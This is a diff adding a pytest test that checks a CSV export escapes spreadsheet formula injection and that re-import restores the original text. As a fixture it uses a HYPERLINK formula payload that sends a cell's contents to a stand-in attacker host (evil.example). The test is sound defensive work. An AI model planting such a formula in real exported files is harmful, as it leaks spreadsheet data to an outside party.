@@ -365,6 +365,37 @@ def test_a_csv_export_round_trips_and_keeps_missing_prices_missing(loaded, draft
     )
 
 
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_export_neutralises_formulas_and_reimports_them_unchanged(draft, org, prefix):
+    """GIVEN offers whose text starts as a spreadsheet formula would WHEN exported as CSV THEN
+    each such cell starts with an apostrophe (numbers untouched), and re-importing the export
+    restores the text exactly."""
+    payload = f'{prefix}HYPERLINK("https://evil.example/?x="&A1,"Click")'
+    row = {
+        "provider": f"{prefix}Local GPU rental",
+        "instance": payload,
+        "region": f"{prefix}eu-west-1",
+        "gpu_name": "H100 SXM 80GB",
+        "gpu_count": 8,
+        "on_demand_per_hour": "40.00",
+        "currency": "USD",
+        "notes": payload,
+    }
+    Provider.objects.create_in(org, name=f"{prefix}Local GPU rental")
+    catalog_import(catalog=draft, rows={"cloud_gpu": [row]}, organization=org)
+
+    text = catalog_export_csv(catalog=draft, kind="cloud_gpu")
+    (exported,) = csv.DictReader(StringIO(text))
+    for column in ("provider", "instance", "region", "notes"):
+        assert exported[column] == "'" + row[column], column
+    assert Decimal(exported["on_demand_per_hour"]) == Decimal("40")
+
+    catalog_import_csv(catalog=draft, kind="cloud_gpu", text=text, organization=org)
+    offer = CloudGpuOffer.objects.in_catalog(draft).get()
+    assert (offer.instance, offer.region, offer.notes) == (payload, f"{prefix}eu-west-1", payload)
+    assert offer.provider.name == f"{prefix}Local GPU rental"
+
+
 def test_an_import_with_errors_names_kind_row_and_field_and_writes_nothing(loaded, draft, org):
     good = {
         "provider": "AWS",
